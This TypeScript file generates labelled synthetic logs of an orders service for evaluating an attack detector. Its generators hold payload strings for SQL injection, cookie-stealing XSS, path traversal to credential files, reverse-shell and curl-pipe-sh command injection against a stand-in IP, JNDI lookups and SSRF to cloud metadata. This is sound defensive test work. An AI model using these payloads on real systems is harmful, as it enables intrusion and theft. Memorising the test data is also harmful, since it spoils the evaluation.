// Another application's log in logfmt (issue 24, the final judgement's "application's logfmt log"):
// a labelled log of an orders service written by Go's log/slog TextHandler, seeded. Nothing in it is
// the shop's: its own keys, an HTTP API with ids in its paths, a database, workers, a payment
// provider, and routine warnings and errors (timeouts, declined cards, retries: about 8% of a day)
// that read negative and are not attacks. The eval day drifts as a next day does (new orders, users,
// clients, IPv6, a new release's version) and carries labelled attacks, one seeded stream per class,
// each payload built from its class's grammar and put into the service's own fields.
// Test data only: the detector never reads this file.
import { seededRandom } from "../../host/core/random.js";
import { between, chance, hexOf, mixIn, pick, streamSeed, writeLabelled, type LabelledLog, type LabelledRecord, type Random } from "./labelled.js";

export const ATTACK_CLASSES = ["sqli", "xss", "traversal", "command", "scanner", "lookup", "ssrf", "credential-stuffing", "long-value"] as const;
export const NORMAL_CLASSES = ["request", "database", "worker", "payment", "login", "warning", "error"] as const;
export type AttackClass = (typeof ATTACK_CLASSES)[number];
export type NormalClass = (typeof NORMAL_CLASSES)[number];

export type ServiceRecord = LabelledRecord<AttackClass | NormalClass>;
/** The clean training day, and the next with the attacks mixed in. */
export type ServiceLog = LabelledLog<AttackClass | NormalClass>;

const ALPHANUM = "abcdefghijklmnopqrstuvwxyz0123456789";
const idOf = (r: Random, prefix: string, n: number) => `${prefix}_${Array.from({ length: n }, () => ALPHANUM[Math.floor(r() * 36)]).join("")}`;
const uuid = (r: Random) => `${hexOf(r, 8)}-${hexOf(r, 4)}-4${hexOf(r, 3)}-${"89ab"[between(r, 0, 3)]}${hexOf(r, 3)}-${hexOf(r, 12)}`;

// slog's TextHandler: a value is quoted (strconv.Quote) when it holds a space, '=', '"' or a
// character that is not printable, or is empty.
function slogValue(value: string): string {
  if (value !== "" && !/[\s="\\\u0000-\u001f\u007f-\u009f]/.test(value)) return value;
  return JSON.stringify(value);
}
function slog(time: string, level: string, msg: string, attrs: [string, string | number][]): string {
  return [`time=${time}`, `level=${level}`, `msg=${slogValue(msg)}`, ...attrs.map(([k, v]) => `${k}=${slogValue(String(v))}`)].join(" ");
}

const FIRST = ["anna", "jonas", "maria", "pedro", "li", "sofia", "omar", "emma", "lucas", "nora", "ivan", "chloe", "kenji", "fatima", "zoë", "josé", "björn", "siobhán"];
const LAST = ["keller", "garcia", "novak", "smith", "rossi", "tanaka", "okafor", "dubois", "larsen", "silva", "kowalski", "haddad", "o'neill"];
const DOMAINS = ["gmail.com", "outlook.com", "proton.me", "example.org", "web.de", "icloud.com", "acme-corp.com"];
const PRODUCTS = ["sku-tshirt-black-m", "sku-mug-white", "sku-hoodie-grey-l", "sku-cap-navy", "sku-poster-a2", "sku-socks-3pack", "sku-sticker-set"];
const AGENTS = (v: number) => [
  `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${120 + v}.0.0.0 Safari/537.36`,
  `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.${2 + v} Safari/605.1.15`,
  `orders-ios/4.${8 + v}.1 (iPhone; iOS 17.${3 + v}; Scale/3.00)`,
  `orders-android/4.${8 + v}.0 (Pixel 8; Android 14)`,
  `okhttp/4.12.0`,
  `Go-http-client/2.0`,
];

interface Day {
  date: string; // 2024-03-12
  users: string[];
  orders: string[];
  clients: string[];
  agents: string[];
  version: string;
}

function ipv4(r: Random): string {
  return pick(r, [`10.${between(r, 0, 3)}.${between(r, 0, 255)}.${between(r, 1, 254)}`, `${pick(r, [81, 88, 95, 176, 185])}.${between(r, 0, 255)}.${between(r, 0, 255)}.${between(r, 1, 254)}`]);
}
function ipv6(r: Random): string {
  return `${pick(r, ["2a02:8108", "2001:16b8", "2a01:cb00"])}:${hexOf(r, 4).replace(/^0+/, "") || "0"}::${hexOf(r, 4).replace(/^0+/, "") || "0"}`;
}
const remote = (r: Random, ip: string) => (ip.includes(":") ? `[${ip}]:${between(r, 1024, 65535)}` : `${ip}:${between(r, 1024, 65535)}`);

function makeDay(r: Random, date: string, previous: Day | null): Day {
  const users = (previous ? previous.users : []).concat(Array.from({ length: previous ? 60 : 400 }, () => idOf(r, "usr", 10)));
  const orders = (previous ? previous.orders.slice(-300) : []).concat(Array.from({ length: 1500 }, () => idOf(r, "ord", 12)));
  const clients = (previous ? previous.clients.slice(0, 400) : []).concat(Array.from({ length: previous ? 600 : 900 }, () => (chance(r, previous ? 0.3 : 0.1) ? ipv6(r) : ipv4(r))));
  return { date, users, orders, clients, agents: AGENTS(previous ? 2 : 0), version: previous ? "v2.14.1" : "v2.13.0" };
}

function timeOf(day: Day, second: number, r: Random): string {
  const two = (n: number) => String(n).padStart(2, "0");
  return `${day.date}T${two(Math.floor(second / 3600))}:${two(Math.floor((second % 3600) / 60))}:${two(second % 60)}.${String(between(r, 0, 999)).padStart(3, "0")}+01:00`;
}
const duration = (r: Random, lo: number, hi: number) => `${(lo + r() * (hi - lo)).toFixed(3)}ms`;

interface Request {
  method: string;
  path: string;
  query?: string;
  status: number;
  user?: string;
  agent: string;
  client: string;
  extra?: [string, string | number][];
}

function request(r: Random, day: Day, time: string, req: Request): string {
  const attrs: [string, string | number][] = [["method", req.method], ["path", req.path]];
  if (req.query !== undefined) attrs.push(["query", req.query]);
  attrs.push(["status", req.status], ["duration", duration(r, 0.4, req.status >= 500 ? 3000 : 180)], ["remote", remote(r, req.client)]);
  if (req.user) attrs.push(["user_id", req.user]);
  attrs.push(["request_id", uuid(r)], ["user_agent", req.agent], ...(req.extra ?? []));
  return slog(time, req.status >= 500 ? "ERROR" : req.status >= 400 ? "WARN" : "INFO", "request", attrs);
}

function normalRequest(r: Random, day: Day): Request {
  const user = chance(r, 0.8) ? pick(r, day.users) : undefined;
  const base = { agent: pick(r, day.agents), client: pick(r, day.clients), user };
  const order = pick(r, day.orders);
  const x = r();
  if (x < 0.25) return { ...base, method: "GET", path: `/api/v2/orders/${order}`, status: pick(r, [200, 200, 200, 304, 404]) };
  if (x < 0.4) return { ...base, method: "GET", path: "/api/v2/orders", query: `status=${pick(r, ["open", "shipped", "cancelled"])}&limit=${pick(r, [20, 50])}${chance(r, 0.3) ? `&cursor=${hexOf(r, 16)}` : ""}`, status: 200 };
  if (x < 0.5) return { ...base, method: "POST", path: "/api/v2/orders", status: pick(r, [201, 201, 201, 422]), extra: [["items", between(r, 1, 5)], ["sku", pick(r, PRODUCTS)]] };
  if (x < 0.58) return { ...base, method: pick(r, ["PATCH", "DELETE"]), path: `/api/v2/orders/${order}`, status: pick(r, [200, 204, 409]) };
  if (x < 0.68) return { ...base, method: "GET", path: "/api/v2/products", query: `search=${encodeURIComponent(pick(r, ["black tshirt", "mug", "hoodie", "poster", "café mug", "socks", "cap"])).replace(/%20/g, "+")}&page=${between(r, 1, 9)}`, status: 200 };
  if (x < 0.75) return { ...base, method: "GET", path: `/api/v2/invoices/${order}/download`, query: `format=${pick(r, ["pdf", "pdf", "csv"])}`, status: pick(r, [200, 200, 404]) };
  if (x < 0.8) return { ...base, method: "POST", path: "/api/v2/webhooks", status: 201, extra: [["webhook_url", `https://${pick(r, ["hooks.slack.com/services", "api.partner-shop.de/hooks", "erp.acme-corp.com/inbound"])}/${hexOf(r, 12)}`]] };
  if (x < 0.9) return { ...base, user: undefined, method: "GET", path: pick(r, ["/healthz", "/readyz", "/metrics"]), status: 200, agent: pick(r, ["kube-probe/1.29", "Prometheus/2.51.0"]), client: `10.244.${between(r, 0, 3)}.${between(r, 2, 250)}` };
  return { ...base, method: "POST", path: "/api/v2/exports", status: 202, extra: [["export_name", `orders-${day.date}-${pick(r, ["daily", "weekly", "finance"])}`]] };
}

/** One normal line of the day and its class. */
function normalLine(r: Random, day: Day, time: string): [string, NormalClass] {
  const x = r();
  if (x < 0.62) return [request(r, day, time, normalRequest(r, day)), "request"];
  if (x < 0.72) {
    return [slog(time, "DEBUG", "query", [["table", pick(r, ["orders", "order_items", "invoices", "products", "users"])], ["op", pick(r, ["select", "select", "insert", "update"])], ["rows", between(r, 0, 200)], ["duration", duration(r, 0.2, 40)]]), "database"];
  }
  if (x < 0.8) {
    const job = pick(r, ["send_receipt", "sync_inventory", "generate_invoice", "notify_shipping"]);
    return [slog(time, "INFO", "job done", [["job", job], ["order_id", pick(r, day.orders)], ["attempt", pick(r, [1, 1, 1, 2])], ["duration", duration(r, 5, 900)], ["version", day.version]]), "worker"];
  }
  if (x < 0.86) {
    const ok = chance(r, 0.9);
    return [slog(time, ok ? "INFO" : "WARN", ok ? "payment captured" : "payment declined", [["order_id", pick(r, day.orders)], ["provider", "stripe"], ["amount", `${between(r, 5, 400)}.${two(r)}`], ["currency", pick(r, ["EUR", "EUR", "USD", "GBP"])], ...(ok ? [] : ([["decline_code", pick(r, ["insufficient_funds", "card_declined", "expired_card", "do_not_honor"])]] as [string, string][]))]), "payment"];
  }
  if (x < 0.92) {
    const user = `${pick(r, FIRST)}.${pick(r, LAST)}@${pick(r, DOMAINS)}`;
    const ok = chance(r, 0.93);
    return [slog(time, ok ? "INFO" : "WARN", ok ? "login succeeded" : "login failed", [["email", user], ["method", pick(r, ["password", "password", "google", "apple"])], ["remote", remote(r, pick(r, day.clients))], ...(ok ? [] : ([["reason", pick(r, ["bad_password", "bad_password", "mfa_timeout"])]] as [string, string][]))]), "login"];
  }
  if (x < 0.96) {
    const w = pick(r, [
      () => slog(time, "WARN", "retrying request", [["upstream", pick(r, ["inventory", "shipping", "stripe"])], ["attempt", between(r, 1, 3)], ["err", pick(r, ["context deadline exceeded", "503 Service Unavailable", "rate limited"])]]),
      () => slog(time, "WARN", "slow query", [["table", pick(r, ["orders", "invoices"])], ["duration", duration(r, 800, 4000)], ["rows", between(r, 1000, 90000)]]),
      () => slog(time, "WARN", "cache miss storm", [["keys", between(r, 100, 900)], ["window", "10s"]]),
    ]);
    return [w(), "warning"];
  }
  const e = pick(r, [
    () => slog(time, "ERROR", "upstream call failed", [["upstream", pick(r, ["inventory", "shipping"])], ["err", pick(r, [`dial tcp ${ipv4(r)}:8080: connect: connection refused`, "context deadline exceeded", "unexpected EOF"])], ["order_id", pick(r, day.orders)]]),
    () => slog(time, "ERROR", "failed to send receipt", [["order_id", pick(r, day.orders)], ["err", pick(r, ["smtp: 421 too many connections", "smtp: timeout"])], ["attempt", between(r, 1, 5)]]),
    () => request(r, day, time, { ...normalRequest(r, day), status: pick(r, [500, 502, 503]), extra: [["err", pick(r, ["pq: canceling statement due to statement timeout", "pq: connection refused", "panic recovered: runtime error: invalid memory address or nil pointer dereference"])]] }),
  ]);
  return [e(), "error"];
}
const two = (r: Random) => String(between(r, 0, 99)).padStart(2, "0");

// ---------------------------------------------------------------------------------------------
// Attacks.

const caseMix = (r: Random, w: string) => (chance(r, 0.3) ? w.toUpperCase() : w);
function sqli(r: Random): string {
  const q = pick(r, ["'", '"', "1'", "1", "')"]);
  const sp = pick(r, [" ", "/**/"]);
  return pick(r, [
    () => `${q}${sp}${caseMix(r, "or")}${sp}1=1--`,
    () => `${q}${sp}${caseMix(r, "union")}${sp}${caseMix(r, "select")}${sp}${Array.from({ length: between(r, 1, 5) }, () => "null").join(",")}--`,
    () => `${q};${sp}${caseMix(r, "select")}${sp}pg_sleep(${between(r, 3, 9)})--`,
    () => `${q}${sp}${caseMix(r, "and")}${sp}1=cast((${caseMix(r, "select")} version()) as int)--`,
    () => `${q}${sp}${caseMix(r, "and")}${sp}${caseMix(r, "extractvalue")}(1,concat(0x7e,user()))--`,
  ])();
}
function xss(r: Random): string {
  return pick(r, [`<script>alert(${between(r, 1, 9)})</script>`, `"><img src=x onerror=alert(1)>`, `<svg onload=fetch('//x.example/'+document.cookie)>`, `javascript:alert(document.domain)`, `'-alert(1)-'`]);
}
function traversal(r: Random): string {
  return `${pick(r, ["../", "..%2f", "..\\", "....//"]).repeat(between(r, 3, 8))}${pick(r, ["etc/passwd", "proc/self/environ", "var/run/secrets/kubernetes.io/serviceaccount/token", "app/config.yaml"])}`;
}
function command(r: Random): string {
  return `${pick(r, ["report", "orders", ""])}${pick(r, [";", "|", "$(", "`", "&&"])}${pick(r, ["id", "cat /etc/passwd", "curl -s http://198.51.100.7/x|sh", "nc 198.51.100.7 4444 -e /bin/sh"])}${pick(r, ["", ")", "`"])}`;
}
function lookup(r: Random): string {
  const host = `${hexOf(r, 6)}.${pick(r, ["oast.fun", "interact.sh"])}`;
  return pick(r, [`\${jndi:ldap://${host}/a}`, `\${jndi:\${lower:d}ns://${host}}`, "{{7*7}}", "${7*7}", "{{ self.__init__.__globals__.__builtins__ }}"]);
}

function attackLine(r: Random, day: Day, time: string, cls: AttackClass, attacker: string): string {
  const base: Request = { method: "GET", path: "/api/v2/orders", status: pick(r, [200, 400, 400, 500]), agent: pick(r, day.agents), client: attacker, user: pick(r, day.users) };
  const inField = (payload: string): Request => {
    const x = r();
    if (x < 0.3) return { ...base, path: "/api/v2/products", query: `search=${encodeURIComponent(payload)}&page=1` };
    if (x < 0.5) return { ...base, path: `/api/v2/orders/${encodeURIComponent(payload)}` };
    if (x < 0.65) return { ...base, path: "/api/v2/orders", query: `status=${encodeURIComponent(payload)}&limit=20` };
    if (x < 0.8) return { ...base, method: "POST", path: "/api/v2/exports", status: 202, extra: [["export_name", payload]] };
    if (x < 0.9) return { ...base, agent: payload };
    return { ...base, path: `/api/v2/invoices/${pick(r, day.orders)}/download`, query: `format=${encodeURIComponent(payload)}` };
  };
  switch (cls) {
    case "sqli":
      return request(r, day, time, inField(sqli(r)));
    case "xss":
      return request(r, day, time, inField(xss(r)));
    case "traversal":
      return request(r, day, time, { ...base, path: `/api/v2/invoices/${pick(r, day.orders)}/download`, query: `format=pdf&file=${encodeURIComponent(traversal(r))}` });
    case "command":
      return request(r, day, time, { ...base, method: "POST", path: "/api/v2/exports", status: 202, extra: [["export_name", command(r)]] });
    case "lookup":
      return request(r, day, time, inField(lookup(r)));
    case "ssrf":
      return request(r, day, time, { ...base, method: "POST", path: "/api/v2/webhooks", status: 201, extra: [["webhook_url", pick(r, ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:2379/v2/keys", "http://[::1]:6379/", "file:///etc/shadow", "gopher://10.0.0.5:25/_HELO"])]] });
    case "scanner":
      return request(r, day, time, { ...base, user: undefined, path: pick(r, ["/.env", "/.git/config", "/actuator/env", "/debug/pprof/", "/swagger-ui.html", "/api/v1/admin/users", "/wp-login.php", "/server-status", "/api/v2/../../etc/passwd", "/graphql", "/console", "/.aws/credentials"]), status: pick(r, [404, 404, 403]), agent: pick(r, [...day.agents, "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "python-requests/2.31.0", "curl/8.4.0"]) });
    case "credential-stuffing":
      return slog(time, "WARN", "login failed", [["email", `${pick(r, ["admin", "root", "test", "info", "support", "sales"])}@${pick(r, DOMAINS)}`], ["method", "password"], ["remote", remote(r, attacker)], ["reason", pick(r, ["bad_password", "unknown_user"])]]);
    case "long-value":
      return request(r, day, time, pick(r, [() => ({ ...base, agent: `Mozilla/5.0 ${"A".repeat(between(r, 2000, 6000))}` }), () => ({ ...base, path: "/api/v2/products", query: `search=${"%41".repeat(between(r, 800, 3000))}&page=1` })])());
  }
}

function normalDay(seed: number, day: Day, count: number): ServiceRecord[] {
  const r = seededRandom(streamSeed(seed, `normal ${day.date}`));
  return Array.from({ length: count }, (_, i) => {
    const [line, cls] = normalLine(r, day, timeOf(day, Math.floor((i * 86_400) / count), r));
    return { line, label: "0", cls };
  });
}

/** The service's log: a clean training day, and the next day with `perClass` attacks of every class mixed in. */
export function serviceLog(seed: number, trainLines = 10_000, evalLines = 10_000, perClass = 40): ServiceLog {
  const r = seededRandom(streamSeed(seed, "days"));
  const first = makeDay(r, "2024-03-11", null);
  const next = makeDay(r, "2024-03-12", first);
  const training = normalDay(seed, first, trainLines);
  const evalDay = normalDay(seed, next, evalLines);
  const attacks: { at: number; record: ServiceRecord }[] = [];
  for (const cls of ATTACK_CLASSES) {
    const a = seededRandom(streamSeed(seed, `attack ${cls}`));
    const attacker = chance(a, 0.3) ? ipv6(a) : ipv4(a);
    for (let i = 0; i < perClass; i++) {
      const at = Math.floor(a() * evalLines);
      const line = attackLine(a, next, timeOf(next, Math.floor((at * 86_400) / evalLines), a), cls, chance(a, 0.7) ? attacker : ipv4(a));
      attacks.push({ at, record: { line, label: cls, cls } });
    }
  }
  return { training, eval: mixIn(evalDay, attacks) };
}

/**
 * The same log as slog's JSONHandler writes it: one JSON object a line, the logfmt line's keys in
 * order, integers as numbers, every other value a string.
 */
export function asJsonLines(log: ServiceLog): ServiceLog {
  const json = (x: ServiceRecord): ServiceRecord => ({ ...x, line: jsonLine(x.line) });
  return { training: log.training.map(json), eval: log.eval.map(json) };
}

function jsonLine(line: string): string {
  const object: Record<string, string | number> = {};
  for (const [, key, quoted, plain] of line.matchAll(/([a-z_]+)=(?:("(?:[^"\\]|\\.)*")|(\S*))/g)) {
    const value: string = quoted !== undefined ? JSON.parse(quoted) : plain;
    object[key] = /^-?\d{1,15}$/.test(value) ? Number(value) : value;
  }
  return JSON.stringify(object);
}

/** Writes service_clean.log, service.log and service.labels into `dir` for `tarkin eval`. */
export const writeService = (dir: string, log: ServiceLog) => writeLabelled(dir, "service", log);
